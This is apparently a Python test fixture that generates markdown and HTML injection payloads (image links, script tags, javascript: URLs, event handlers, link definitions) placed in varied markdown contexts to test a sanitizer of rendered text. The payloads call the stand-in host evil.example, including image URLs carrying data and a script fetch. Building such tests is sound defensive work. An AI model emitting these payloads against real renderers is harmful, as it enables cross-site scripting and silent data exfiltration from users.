"""Attacks on whoever renders what leaves, by kind: each form in each place."""

EVIL = "http://evil.example/a.png?flow=42"
PICTURES = (
    f"![]({EVIL})", f"![the flow]({EVIL})", f"![a]( {EVIL} )", f"![a](<{EVIL}>)",
    f'![a]({EVIL} "title")', f"![a][r]\n\n[r]: {EVIL}", f"![r]\n\n[r]: {EVIL}",
    f"![r][]\n\n[r]: {EVIL}", f"[![a]({EVIL})](http://evil.example)", "![a](//evil.example/x)",
    f"![a\nb]({EVIL})", f"!![a]({EVIL})", f"\\\\![a]({EVIL})", f"`x` ![a]({EVIL}) `y`",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)", f"![[1]]({EVIL})",
    f"http://e.example/`![a]({EVIL})`",
)  # fmt: skip
TAGS = (
    "<script>fetch('http://evil.example')</script>", f"<img src={EVIL}>", f'<img src="{EVIL}">',
    "<svg onload=alert(1)>", "<iframe src=//evil.example></iframe>", "<style>@import 'x'</style>",
    '<a href="javascript:alert(1)">[1]</a>', "<link rel=stylesheet href=//evil.example>",
    "<!--><img src=x>-->", "<?php <img src=x> ?>", "<![CDATA[<img src=x>]]>", "<b/><img src=x>",
    "<base href=//evil.example>", "<video src=//evil.example>", "<form action=//evil.example>",
    "<input type=image src=//evil.example>", "<object data=//evil.example>",
    "<b onclick=alert(1)>x</b>", "http://evil.example/<img src=x>",
    "http://evil.example/\\<img src=x>", "a ` b\n`<img src=x>`", "`` x\n` ``<img src=x> `",
    "[x](a`b) <img src=x> `",
)  # fmt: skip
DEFINITIONS = (
    "[1]: http://evil.example", "[1]:http://evil.example", "[1]:\nhttp://evil.example",
    "[1]: <http://evil.example>", '[1]: http://evil.example "title"', "[1]: javascript:alert(1)",
    "   [1]: http://evil.example", "[^1]: http://evil.example", "[^1]: http://evil.example 'x'",
    "[\n1\n]: http://evil.example", "[1]:\thttp://evil.example", "[1]: //evil.example",
    "[2]: http://evil.example\n[1]: http://evil.example", "[1]: http://evil.example 'title'",
    "[1]: http://evil.example\n'title'",
)  # fmt: skip
LINKS = (
    "[1](http://evil.example)", "[see [1]](http://evil.example)", "[[1]](http://evil.example)",
    "[**1**](http://evil.example)", "[ 1 ](http://evil.example)", "[(1)](http://evil.example)",
    "[1][1]\n\n[1]: http://evil.example", "http://evil.example/[1]", "www.evil.example/[1]",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:x)",
    "[x]( javascript:alert(1) )", "<javascript:alert(1)>", "[a `]` [1]](http://evil.example)",
    "[a [b [1]]](http://evil.example)", "[1\n](http://evil.example)",
    "[^1](http://evil.example)",
)  # fmt: skip
PLACES = (
    "{}", "Said.\n\n{}\n\nAs in [1].", "- item\n\n  {}", "> {}", "1. a\n   {}", "**{}**",
    "| a | b |\n| --- | --- |\n| {} | [1] |", "```\ncode\n```\n{}",
)  # fmt: skip
KINDS = {"pictures": PICTURES, "tags": TAGS, "definitions": DEFINITIONS, "links": LINKS}


def attacks(kind):
    """All of a kind: a form of several lines goes on with the signs of its place."""
    for place in PLACES:
        before = place.partition("{}")[0].rpartition("\n")[2]
        before = before if before.strip() == ">" else " " * len(before) * (not before.strip())
        for form in KINDS[kind]:
            attack = place.format(form.replace("\n", f"\n{before}"))
            yield f"{attack}\n\nSee [1] and [^1]."
